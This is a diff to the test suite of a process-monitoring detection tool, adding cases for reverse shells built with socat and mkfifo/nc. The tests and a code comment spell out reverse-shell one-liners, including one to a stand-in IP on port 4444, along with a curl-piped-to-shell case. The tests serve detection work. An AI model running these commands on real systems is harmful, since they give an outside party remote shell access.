@@ -58,6 +58,19 @@ describe('suspicious processes on this machine (spawned)', () => {
     sock.destroy();
   });
 
+  it('a shell whose stdin is a pipe from a connected network tool (`socat -u TCP:… - | sh`) is a reverse shell too', async () => {
+    const outer = start('sh', ['-c', `socat -u TCP:127.0.0.1:${port} - | sh`]);
+    await execed(outer, 'sh');
+    let alert: EcsDocument | undefined;
+    for (let i = 0; i < 100 && !alert; i++) {
+      alert = (await detectSuspiciousProcesses()).find((a) => get(a, 'rule.id') === 'bulwark.process.reverse-shell' && get(a, 'process.parent.pid') === outer.pid);
+      if (!alert) await new Promise((r) => setTimeout(r, 50));
+    }
+    expect(alert).toBeDefined();
+    expect(get(alert!, 'bulwark.relay.name')).toBe('socat');
+    expect(get(alert!, 'destination.port')).toBe(port);
+  });
+
   it('a binary copied to /tmp, started and deleted: temp-folder execution and deleted executable', async () => {
     const dir = tmp();
     const copy = join(dir, 'sleep');
@@ -115,7 +128,15 @@ describe('suspicious processes from a fixture /proc', () => {
       ...procEntry(16, { name: 'sshd', argv: ['/usr/sbin/sshd', '-D'], exe: '/usr/sbin/sshd (deleted)' }),
       ...procEntry(17, { name: '.x', argv: ['/dev/shm/.x'], exe: '/dev/shm/.x' }),
       ...procEntry(18, { name: 'perl', argv: ['perl -e use Socket; $p=4444'], exe: '/usr/bin/perl' }),
+      // the mkfifo reverse shell: cat f | sh -i 2>&1 | nc 203.0.113.9 4444 > f (nc holds socket 555 on fd 3)
+      ...procEntry(30, { name: 'cat', argv: ['cat', '/tmp/f'], exe: '/usr/bin/cat', fds: { 0: '/dev/null', 1: 'pipe:[700]' } }),
+      ...procEntry(31, { name: 'sh', argv: ['sh', '-i'], exe: '/usr/bin/dash', fds: { 0: 'pipe:[700]', 1: 'pipe:[701]', 2: 'pipe:[701]' } }),
+      ...procEntry(32, { name: 'nc', argv: ['nc', '203.0.113.9', '4444'], exe: '/usr/bin/nc.openbsd', fds: { 0: 'pipe:[701]', 1: '/tmp/f', 3: 'socket:[555]' } }),
       // negatives
+      ...procEntry(40, { name: 'curl', argv: ['curl', '-fsSL', 'https://get.example.com'], exe: '/usr/bin/curl', fds: { 1: 'pipe:[800]', 5: 'socket:[555]' } }),
+      ...procEntry(41, { name: 'sh', argv: ['sh'], exe: '/usr/bin/dash', fds: { 0: 'pipe:[800]', 1: '/dev/pts/1' } }),
+      ...procEntry(42, { name: 'bash', argv: ['bash', 'build.sh'], exe: '/usr/bin/bash', fds: { 0: '/dev/null', 1: 'pipe:[900]' } }),
+      ...procEntry(43, { name: 'tee', argv: ['tee', 'log'], exe: '/usr/bin/tee', fds: { 0: 'pipe:[900]' } }),
       ...procEntry(20, { name: 'bash', argv: ['-bash'], exe: '/usr/bin/bash', fds: { 0: '/dev/pts/0', 1: '/dev/pts/0', 2: '/dev/pts/0' } }),
       ...procEntry(21, { name: 'sh', argv: ['/bin/sh', '/usr/lib/svc/run.sh'], exe: '/usr/bin/dash', fds: { 0: '/dev/null', 1: 'socket:[9999]', 2: 'socket:[9999]' } }),
       ...procEntry(22, { name: 'nc', argv: ['nc', '-l', '80'], exe: '/usr/bin/nc.openbsd' }),
@@ -140,6 +161,7 @@ describe('suspicious processes from a fixture /proc', () => {
       '15 deleted-exe T1620 73',
       '16 deleted-exe T1070.004 21',
       '17 temp-exec T1036 73',
+      '31 reverse-shell T1059.004 99',
     ]);
     // every alert is a valid event for the server's store, typed fields included
     for (const [i, a] of alerts.entries()) expect(normalizeEvent(a, i, Date.now())).toMatchObject({ ok: true, event: { fields: { 'event.kind': 'alert', 'process.pid': get(a, 'process.pid'), 'threat.technique.id': get(a, 'threat.technique.id') } } });
